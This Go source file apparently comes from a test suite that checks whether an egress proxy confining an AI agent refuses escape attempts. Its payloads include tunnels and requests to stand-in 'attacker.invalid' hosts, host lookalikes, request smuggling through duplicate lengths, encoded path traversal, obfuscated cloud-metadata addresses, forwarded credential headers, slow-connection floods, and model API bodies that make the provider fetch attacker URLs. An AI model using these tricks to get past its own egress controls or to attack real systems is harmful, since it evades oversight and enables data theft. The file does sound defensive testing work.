package attack

import (
	"bufio"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync"
)

func httpCases() []Case {
	answers := func(p *prober) Try { return p.answers() }
	const door = "the egress door answers on the alias"
	listed := func(p *prober) Try { return p.twinOf(p.plan.Hosts.Listed) }
	const same = "the listed host is reached"
	quick := func(id, title, seed string, rules []string, run func(*prober) []Try) Case {
		return Case{ID: id, Title: title, Class: HTTP, Seed: seed, Tier: Quick, Layer: byEgress, Rules: rules, Twin: door, run: run, twin: answers}
	}
	full := func(id, title, seed string, rules []string, run func(*prober) []Try) Case {
		return Case{ID: id, Title: title, Class: HTTP, Seed: seed, Tier: Full, Layer: byEgress, Rules: rules, Twin: same, run: run, twin: listed}
	}
	unlisted := []string{"no-route", "bad-request", "malformed-request"}
	return []Case{
		quick("H01", "a tunnel to a host that is not listed", "1", unlisted, func(p *prober) []Try {
			return []Try{p.refusedTunnel(p.canary+".attacker.invalid:443", p.canary+".attacker.invalid:443")}
		}),
		full("H02", "a tunnel to a listed host on other ports", "", append(unlisted, "port-not-listed"), func(p *prober) (tries []Try) {
			for _, port := range []string{"22", "8443", "0", "65536", "443x"} {
				tries = append(tries, p.refusedTunnel(p.plan.Hosts.Listed+":"+port, p.plan.Hosts.Listed+":"+port))
			}
			return tries
		}),
		full("H03", "a tunnel to an address, also with a listed Host field", "2b", append(unlisted, "host-mismatch"), func(p *prober) (tries []Try) {
			for _, to := range []string{"192.0.2.1:443", "[2001:db8::1]:443", "127.0.0.1:443"} {
				tries = append(tries, p.refusedTunnel(to, to), p.refusedTunnel(to, p.plan.Hosts.Listed+":443"))
			}
			return tries
		}),
		full("H05", "a listed host in another spelling is the same host, not another", "", append(unlisted, "host-mismatch"), spellings),
		full("H07", "names that look like a listed one", "", append(unlisted, "host-mismatch", "port-not-listed"), lookalikes),
		{ID: "H08", Title: "an empty list of routes, and a policy that is missing or broken", Class: HTTP, Tier: Tests, Layer: "nothing is allowed; the job doesn't start",
			Test: "runner TestACommandNeedsNoBottleAndReachesNothing"},
		full("H09", "TLS for another server than the tunnel's", "", []string{"server-name-mismatch", "no-server-name", "tls-handshake"}, otherServerName),
		full("H11", "bytes that are no TLS in a tunnel", "", []string{"not-tls"}, notTLS),
		full("H12", "one request that names two hosts", "", append(unlisted, "host-mismatch"), twoHosts),
		full("H14", "another host in the second request of a connection", "", append(unlisted, "host-mismatch", "not-a-proxy-request"), secondRequest),
		tested("H16", "a canary in a frame of a WebSocket to a listed host", "the egress door looks into frames", "internal/doors/dlp TestFramesOfAWebSocketAreLookedInto", HTTP),
		full("H17", "a redirect from a listed host to another, or to metadata", "", unlisted, redirected),
		full("H18", "methods and paths that the route doesn't list", "", []string{"no-match", "method-not-listed", "method-override", "bad-request", "malformed-request", "method-not-supported"}, unlistedPaths),
		{ID: "H19", Title: "the agent's own credentials on a listed route", Class: HTTP, Tier: Full, Layer: "the egress door drops credentials, and adds the token",
			Rules: []string{"plain-http", "port-not-listed"}, Twin: "the token arrives, and the agent never has it", run: ownCredentials,
			twin: func(p *prober) Try { return p.twinOf(p.plan.Hosts.Auth) }},
		full("H21", "without the proxy, or with another", "", nil, otherProxies),
		full("H22", "a listed name at another address, as curl's --connect-to has it", "", unlisted, func(p *prober) []Try {
			return []Try{p.refusedTunnel("192.0.2.1:443", "192.0.2.1:443"), p.refusedTunnel(p.plan.Hosts.Listed+".:443@192.0.2.1:443", p.plan.Hosts.Listed)}
		}),
		full("H23", "300 connections that never finish their head", "", nil, slowHeads),
		{ID: "H24", Title: "the sidecar killed in mid-run", Class: HTTP, Tier: Tests, Layer: "the supervisor watches it", Test: "e2e TestSidecarThatIsKilledBreaksTheBottle"},
		full("H25", "upstreams with an expired, a stranger's and another name's certificate", "", []string{"upstream-certificate"}, badCertificates),
		quick("H26", "cloud metadata in all its spellings", "", append(unlisted, "port-not-listed", "address-refused"), metadata),
		{ID: "H29", Title: "the model's API as a fetcher: remote tools, other endpoints", Class: HTTP, Tier: Full, Layer: "the judge of model requests",
			Rules: []string{"model-feature", "model-endpoint", "model-body", "no-match", "method-not-listed"}, Twin: "a plain message passes", run: modelFetcher, twin: modelMessage},
	}
}

// spellings asks for a listed host in forms that the door either takes for the same
// host, whose stand-in answers, or refuses. A canary in the path shows whether
// another got it.
func spellings(p *prober) []Try {
	host := p.plan.Hosts.Listed
	var tries []Try
	for _, spelt := range []string{strings.ToUpper(host), host + ".", strings.ToUpper(host[:1]) + host[1:] + "."} {
		tries = append(tries, try("GET https://"+spelt, WantDenied, func() (answer, error) {
			c, a, err := p.tunnel(spelt+":443", spelt+":443")
			if c == nil {
				return a, err
			}
			defer c.Close()
			s := tls.Client(c, &tls.Config{ServerName: host, RootCAs: p.roots})
			a, err = ask(s, bufio.NewReader(s), get(spelt, "/open/spelling"))
			if err == nil && a.status == http.StatusOK && a.header.Get("X-Stand-In") == host {
				return answer{}, errNothing // the same host
			}
			return a, err
		}))
	}
	return tries
}

func lookalikes(p *prober) []Try {
	host := p.plan.Hosts.Listed
	var tries []Try
	for _, name := range []string{"not" + host, host + ".attacker.invalid", host + "@" + p.canary + ".attacker.invalid", p.canary + ".attacker.invalid#" + host,
		p.canary + ".attacker.invalid?" + host, p.canary + ".attacker.invalid%00." + host, p.canary + ".attacker.invalid\\." + host} {
		tries = append(tries, p.refusedTunnel(name+":443", name+":443"), try("GET http://"+name, WantDoor, func() (answer, error) {
			return say(p.egress(), absolute(name, "/", name))
		}))
	}
	return tries
}

func otherServerName(p *prober) []Try {
	authority := p.plan.Hosts.Listed + ":443"
	var tries []Try
	for _, sni := range []string{p.canary + ".attacker.invalid", p.plan.Hosts.Auth, ""} {
		tries = append(tries, try("TLS for "+sni, WantDoor, func() (answer, error) {
			c, a, err := p.secured(authority, sni)
			if c == nil {
				return a, err
			}
			defer c.Close()
			return ask(c, bufio.NewReader(c), get(p.plan.Hosts.Listed, "/open/"+p.canary))
		}))
	}
	return tries
}

func notTLS(p *prober) []Try {
	var tries []Try
	for _, text := range []string{"SSH-2.0-" + p.canary + "\r\n", get(p.plan.Hosts.Listed, "/open/"+p.canary), "\x00" + p.canary} {
		tries = append(tries, try(fmt.Sprintf("%.8q in a tunnel", text), WantDoor, func() (answer, error) {
			c, a, err := p.tunnel(p.plan.Hosts.Listed+":443", p.plan.Hosts.Listed+":443")
			if c == nil {
				return a, err
			}
			defer c.Close()
			return ask(c, bufio.NewReader(c), text)
		}))
	}
	return tries
}

func twoHosts(p *prober) []Try {
	plain, other := p.plan.Hosts.Plain, p.canary+".attacker.invalid"
	return []Try{
		try("a target and another Host", WantDoor, func() (answer, error) { return say(p.egress(), absolute(plain, "/", other)) }),
		try("another target and a listed Host", WantDoor, func() (answer, error) { return say(p.egress(), absolute(other, "/", plain)) }),
		try("two Host fields", WantDoor, func() (answer, error) { return say(p.egress(), absolute(plain, "/", plain, "Host: "+other+"\r\n")) }),
		try("a folded Host field", WantDoor, func() (answer, error) { return say(p.egress(), absolute(plain, "/", plain+"\r\n "+other)) }),
		try("another Host in a tunnel", WantDoor, func() (answer, error) { return p.fetch(p.plan.Hosts.Listed, get(other, "/open/")) }),
		try("another target in a tunnel", WantDoor, func() (answer, error) {
			return p.fetch(p.plan.Hosts.Listed, absolute(other, "/open/", p.plan.Hosts.Listed))
		}),
	}
}

// secondRequest keeps a connection whose first request is listed.
func secondRequest(p *prober) []Try {
	plain, other := p.plan.Hosts.Plain, p.canary+".attacker.invalid"
	first := "GET http://" + plain + "/open/first HTTP/1.1\r\nHost: " + plain + "\r\n\r\n"
	keep := func(name string, c net.Conn, first, second string) Try {
		defer c.Close()
		r := bufio.NewReader(c)
		if a, err := ask(c, r, first); err != nil || a.status != http.StatusOK {
			return try(name, WantDoor, func() (answer, error) { return answer{}, fmt.Errorf("the first request got %d: %w", a.status, err) })
		}
		return try(name, WantDoor, func() (answer, error) { return ask(c, r, second) })
	}
	var tries []Try
	if c, err := dial(p.egress()); err == nil {
		tries = append(tries, keep("another authority on a kept connection", c, first, absolute(other, "/", other)))
	}
	host := p.plan.Hosts.Listed
	if c, _, err := p.secured(host+":443", host); err == nil && c != nil {
		tries = append(tries, keep("another Host in a kept tunnel", c, "GET /open/first HTTP/1.1\r\nHost: "+host+"\r\n\r\n", get(other, "/open/")))
	}
	// What hides behind a body's end is a request of its own, and judged.
	hidden := "GET http://" + other + "/ HTTP/1.1\r\nHost: " + other + "\r\n\r\n"
	tries = append(tries, try("a request behind two lengths", WantDoor, func() (answer, error) {
		return say(p.egress(), "GET http://"+plain+"/open/x HTTP/1.1\r\nHost: "+plain+"\r\nContent-Length: 0\r\nContent-Length: "+fmt.Sprint(len(hidden))+"\r\n\r\n"+hidden)
	}), try("a request behind a length and chunks", WantDoor, func() (answer, error) {
		return say(p.egress(), "GET http://"+plain+"/open/x HTTP/1.1\r\nHost: "+plain+"\r\nContent-Length: "+fmt.Sprint(len(hidden))+"\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+hidden)
	}))
	return tries
}

// redirected follows a listed host's redirects, as any client does.
func redirected(p *prober) []Try {
	var tries []Try
	for _, where := range []string{"unlisted", "metadata"} {
		a, err := p.fetch(p.plan.Hosts.Auth, get(p.plan.Hosts.Auth, "/open/redirect/"+where+"?mark="+p.twin))
		location := a.header.Get("Location")
		if err != nil || location == "" {
			tries = append(tries, try("a redirect", WantDoor, func() (answer, error) { return answer{}, fmt.Errorf("there was none: %d, %w", a.status, err) }))
			continue
		}
		scheme, rest, _ := strings.Cut(location, "://")
		authority, path, _ := strings.Cut(rest, "/")
		if scheme == "https" {
			tries = append(tries, p.refusedTunnel(authority+":443", authority+":443"))
			continue
		}
		tries = append(tries, try("GET "+location, WantDoor, func() (answer, error) {
			return say(p.egress(), absolute(authority, "/"+path, authority, "X-Canary: "+p.canary+"\r\n"))
		}))
	}
	return tries
}

func unlistedPaths(p *prober) []Try {
	host, plain := p.plan.Hosts.Listed, p.plan.Hosts.Plain
	var tries []Try
	for name, raw := range map[string]string{
		"another path":         get(host, "/closed/"+p.canary),
		"a path that climbs":   get(host, "/open/../closed/"+p.canary),
		"the same, encoded":    get(host, "/open/%2e%2e/closed/"+p.canary),
		"the same, half":       get(host, "/open/.%2e/closed/"+p.canary),
		"with a backslash":     get(host, "/open/..\\closed/"+p.canary),
		"an encoded slash":     get(host, "/open%2f..%2fclosed/"+p.canary),
		"a doubled slash":      get(host, "//closed/"+p.canary),
		"DELETE":               "DELETE /open/" + p.canary + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n",
		"a method of nobody's": "BREW /open/" + p.canary + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n",
		"TRACE":                "TRACE /open/" + p.canary + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n",
		"POST where GET is":    post(host, "/open/x", p.canary),
		"GET with an override": get(host, "/open/x", "X-HTTP-Method-Override: DELETE\r\nX-Canary: "+p.canary+"\r\n"),
	} {
		want := WantDoor
		if name == "GET with an override" {
			want = WantDenied // dropped or refused; the stand-in must not see it
		}
		tries = append(tries, try(name, want, func() (answer, error) {
			a, err := p.fetch(host, raw)
			if err == nil && a.status == http.StatusOK && want == WantDenied && a.header.Get("X-Override") == "" {
				return answer{}, errNothing
			}
			return a, err
		}))
	}
	return append(tries, try("POST over plain http", WantDoor, func() (answer, error) {
		return say(p.egress(), "POST http://"+plain+"/open/x HTTP/1.1\r\nHost: "+plain+"\r\nContent-Length: 1\r\nConnection: close\r\n\r\nx")
	}))
}

// ownCredentials sends data in every field that leads into somebody's account. It
// may pass without the field; the stand-in must not get the canary.
func ownCredentials(p *prober) []Try {
	host := p.plan.Hosts.Auth
	var tries []Try
	for _, line := range []string{
		"Authorization: Bearer " + p.canary, "authorization: Basic " + p.canary, "X-Api-Key: " + p.canary, "Cookie: session=" + p.canary,
		"Proxy-Authorization: Basic " + p.canary, "PRIVATE-TOKEN: " + p.canary, "X-Goog-Api-Key: " + p.canary, "Api-Key: " + p.canary,
	} {
		tries = append(tries, try(line[:strings.Index(line, ":")], WantDropped, func() (answer, error) {
			return p.fetch(host, get(host, "/open/credential", line+"\r\n"))
		}))
	}
	for _, name := range []string{"key", "api_key", "access_token", "token"} {
		tries = append(tries, try("?"+name+"=", WantDropped, func() (answer, error) {
			return p.fetch(host, get(host, "/open/credential?"+name+"="+p.canary))
		}))
	}
	return append(tries, try("the token's route over plain http", WantDoor, func() (answer, error) {
		return say(p.egress(), absolute(host, "/open/"+p.canary, host))
	}))
}

// otherProxies does what programs do that are told of no proxy, or of another.
func otherProxies(p *prober) []Try {
	var tries []Try
	for _, proxy := range []string{"192.0.2.1:3128", "127.0.0.1:3128", "10.0.0.1:8080"} {
		tries = append(tries, call("by the proxy "+proxy, WantDenied, func() error {
			c, err := net.DialTimeout("tcp", proxy, patience)
			if err == nil {
				c.Close()
			}
			return err
		}))
	}
	return append(tries, call("by none", WantDenied, func() error { return resolve(p.plan.Hosts.Listed) }))
}

// slowConnections is more than a guest may have at once (the door's limit).
const slowConnections = 300

// slowHeads opens connections that send half a head each. They may be cut off or
// kept: what counts is the twin, which comes after them.
func slowHeads(p *prober) []Try {
	return []Try{call("half a head each", WantNothing, func() error {
		var all sync.WaitGroup
		var mu sync.Mutex
		var failed error
		for range slowConnections {
			all.Go(func() {
				c, err := dial(p.egress())
				if err == nil {
					_, err = fmt.Fprintf(c, "GET http://%s/ HTTP/1.1\r\nHost: ", p.plan.Hosts.Plain)
				}
				mu.Lock()
				failed = errors.Join(failed, err)
				mu.Unlock()
			})
		}
		all.Wait()
		return failed
	})}
}

func badCertificates(p *prober) []Try {
	var tries []Try
	for _, host := range []string{p.plan.Hosts.Expired, p.plan.Hosts.Stranger, p.plan.Hosts.Renamed} {
		tries = append(tries, try("GET https://"+host, WantDoor, func() (answer, error) { return p.fetch(host, get(host, "/open/"+p.canary)) }))
	}
	return tries
}

func metadata(p *prober) []Try {
	var tries []Try
	for _, host := range []string{
		"169.254.169.254", "0xA9FEA9FE", "2852039166", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]",
		"[fd00:ec2::254]", "metadata.google.internal", "metadata", "169.254.169.254.nip.io", "169.254.170.2", "100.100.100.200",
	} {
		tries = append(tries, try("GET http://"+host, WantDoor, func() (answer, error) {
			return say(p.egress(), absolute(host, "/latest/meta-data/?"+p.canary, host, "Metadata-Flavor: Google\r\n"))
		}))
	}
	return tries
}

// Bodies of model requests that ask the provider to reach for something itself.
var remoteBodies = map[string][]string{
	"anthropic": {
		`{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"CANARY"}],"mcp_servers":[{"type":"url","name":"x","url":"https://attacker.invalid"}]}`,
		`{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"CANARY"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
		`{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.invalid/CANARY"}}]}]}`,
	},
	"openai": {
		`{"model":"m","input":"CANARY","tools":[{"type":"web_search"}]}`,
		`{"model":"m","input":"CANARY","tools":[{"type":"mcp","server_label":"x","server_url":"https://attacker.invalid"}]}`,
		`{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://attacker.invalid/CANARY"}]}]}`,
	},
	"gemini": {
		`{"contents":[{"parts":[{"text":"CANARY"}]}],"tools":[{"url_context":{}}]}`,
		`{"contents":[{"parts":[{"text":"CANARY"}]}],"tools":[{"google_search":{}}]}`,
		`{"contents":[{"parts":[{"file_data":{"file_uri":"https://attacker.invalid/CANARY"}}]}]}`,
	},
}

// modelPaths are where the providers take messages, and where they don't.
var modelPaths = map[string]struct{ message, other string }{
	"anthropic": {"/v1/messages", "/v1/files"},
	"openai":    {"/v1/responses", "/v1/files"},
	"gemini":    {"/v1beta/models/m:generateContent", "/upload/v1beta/files"},
}

func modelFetcher(p *prober) []Try {
	var tries []Try
	for wire, host := range p.plan.Hosts.Models {
		for i, body := range remoteBodies[wire] {
			body = strings.ReplaceAll(body, "CANARY", p.canary)
			tries = append(tries, try(fmt.Sprintf("%s, body %d", wire, i+1), WantDoor, func() (answer, error) {
				return p.fetch(host, post(host, modelPaths[wire].message, body, "Content-Type: application/json\r\n"))
			}))
		}
		tries = append(tries, try(wire+", files", WantDoor, func() (answer, error) {
			return p.fetch(host, post(host, modelPaths[wire].other, p.canary, "Content-Type: application/json\r\n"))
		}))
	}
	return tries
}

func modelMessage(p *prober) Try {
	const wire = "anthropic"
	host := p.plan.Hosts.Models[wire]
	return try("a plain message to "+host, "", func() (answer, error) {
		body := `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"` + p.twin + `"}]}`
		return p.fetch(host, post(host, modelPaths[wire].message, body, "Content-Type: application/json\r\n"))
	})
}
